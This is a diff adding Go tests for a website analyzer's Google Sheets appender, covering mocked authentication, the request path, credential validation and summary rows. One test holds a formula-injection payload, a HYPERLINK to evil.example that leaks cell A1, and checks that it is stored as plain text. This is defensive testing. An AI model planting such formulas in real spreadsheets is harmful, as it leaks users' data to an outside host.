@@ -0,0 +1,148 @@
+package sheets
+
+import (
+	"context"
+	"crypto/rand"
+	"crypto/rsa"
+	"crypto/x509"
+	"encoding/json"
+	"encoding/pem"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"reflect"
+	"testing"
+	"time"
+
+	"website-analyzer/internal/models"
+	"website-analyzer/internal/storage"
+)
+
+func writeCredentials(t *testing.T, account map[string]string) string {
+	t.Helper()
+	data, err := json.Marshal(account)
+	if err != nil {
+		t.Fatal(err)
+	}
+	path := filepath.Join(t.TempDir(), "credentials.json")
+	if err := os.WriteFile(path, data, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	return path
+}
+
+func TestAppend(t *testing.T) {
+	key, err := rsa.GenerateKey(rand.Reader, 2048)
+	if err != nil {
+		t.Fatal(err)
+	}
+	privateKey := pem.EncodeToMemory(&pem.Block{Type: "RSA PRIVATE KEY", Bytes: x509.MarshalPKCS1PrivateKey(key)})
+
+	var gotAuth, gotPath, gotQuery string
+	var gotBody struct {
+		Values [][]any `json:"values"`
+	}
+	mux := http.NewServeMux()
+	mux.HandleFunc("POST /token", func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "application/json")
+		w.Write([]byte(`{"access_token":"sheets-token","token_type":"Bearer","expires_in":3600}`))
+	})
+	mux.HandleFunc("POST /v4/spreadsheets/", func(w http.ResponseWriter, r *http.Request) {
+		gotAuth = r.Header.Get("Authorization")
+		gotPath = r.URL.EscapedPath()
+		gotQuery = r.URL.RawQuery
+		json.NewDecoder(r.Body).Decode(&gotBody)
+		w.Write([]byte(`{}`))
+	})
+	server := httptest.NewServer(mux)
+	defer server.Close()
+
+	path := writeCredentials(t, map[string]string{
+		"type":         "service_account",
+		"client_email": "analyzer@project.iam.gserviceaccount.com",
+		"private_key":  string(privateKey),
+		"token_uri":    server.URL + "/token",
+	})
+	appender, err := New(path, "sheet-id", "Runs 2026")
+	if err != nil {
+		t.Fatalf("New failed: %v", err)
+	}
+	appender.endpoint = server.URL + "/v4/spreadsheets/"
+
+	if err := appender.Append(context.Background(), []any{"https://example.com", 3}); err != nil {
+		t.Fatalf("Append failed: %v", err)
+	}
+	if gotAuth != "Bearer sheets-token" {
+		t.Errorf("Authorization = %q", gotAuth)
+	}
+	if gotPath != "/v4/spreadsheets/sheet-id/values/Runs%202026:append" {
+		t.Errorf("Path = %q", gotPath)
+	}
+	if gotQuery != "valueInputOption=RAW&insertDataOption=INSERT_ROWS" {
+		t.Errorf("Query = %q", gotQuery)
+	}
+	want := [][]any{{"https://example.com", float64(3)}}
+	if !reflect.DeepEqual(gotBody.Values, want) {
+		t.Errorf("Values = %v, want %v", gotBody.Values, want)
+	}
+
+	// A formula in a project name is sent, and stored, as plain text
+	project := `=HYPERLINK("https://evil.example/?leak="&A1,"Open")`
+	record := &storage.Record{URL: "https://example.com", Project: project, Result: &models.AnalysisResult{}}
+	if err := appender.Append(context.Background(), SummaryRow(record)); err != nil {
+		t.Fatalf("Append failed: %v", err)
+	}
+	if gotQuery != "valueInputOption=RAW&insertDataOption=INSERT_ROWS" || gotBody.Values[0][2] != project {
+		t.Errorf("Expected the formula to be appended as raw text, got %q with %v", gotQuery, gotBody.Values)
+	}
+
+	appender.endpoint = server.URL + "/missing/"
+	if err := appender.Append(context.Background(), []any{"x"}); err == nil {
+		t.Error("Expected an error response to fail the append")
+	}
+}
+
+func TestNewRejectsInvalidCredentials(t *testing.T) {
+	if _, err := New(filepath.Join(t.TempDir(), "missing.json"), "sheet-id", "Sheet1"); err == nil {
+		t.Error("Expected a missing credentials file to be rejected")
+	}
+
+	userCredentials := writeCredentials(t, map[string]string{"type": "authorized_user", "client_id": "id"})
+	if _, err := New(userCredentials, "sheet-id", "Sheet1"); err == nil {
+		t.Error("Expected non-service-account credentials to be rejected")
+	}
+
+	serviceAccount := writeCredentials(t, map[string]string{
+		"type":         "service_account",
+		"client_email": "analyzer@project.iam.gserviceaccount.com",
+		"private_key":  "key",
+	})
+	if _, err := New(serviceAccount, "", "Sheet1"); err == nil {
+		t.Error("Expected a missing spreadsheet ID to be rejected")
+	}
+}
+
+func TestSummaryRow(t *testing.T) {
+	record := &storage.Record{
+		URL:       "https://example.com",
+		Project:   "marketing",
+		CreatedAt: time.Date(2026, 3, 4, 5, 6, 7, 0, time.FixedZone("CET", 3600)),
+		Result: &models.AnalysisResult{
+			HTMLSize:          2048,
+			Weight:            &models.PageWeightReport{HTMLSize: 2048, ResourceSize: 30720, TotalSize: 32768},
+			InaccessibleLinks: []models.LinkError{{URL: "https://example.com/a"}, {URL: "https://example.com/b"}},
+			Scores:            &models.Scores{Overall: 87},
+		},
+	}
+	want := []any{"2026-03-04 04:06:07", "https://example.com", "marketing", 2, 87, int64(32768)}
+	if got := SummaryRow(record); !reflect.DeepEqual(got, want) {
+		t.Errorf("SummaryRow = %v, want %v", got, want)
+	}
+
+	record.Result.Scores = nil
+	record.Result.Weight = nil
+	if got := SummaryRow(record); got[4] != "" || got[5] != "" {
+		t.Errorf("Expected empty score and weight cells without them, got %v", got)
+	}
+}